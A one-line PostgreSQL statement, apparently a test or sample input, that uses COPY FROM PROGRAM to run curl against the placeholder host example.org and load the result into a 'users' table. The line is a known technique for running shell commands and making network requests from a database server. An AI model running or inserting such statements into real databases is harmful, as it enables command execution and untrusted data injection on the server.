COPY users FROM PROGRAM 'curl http://example.org';
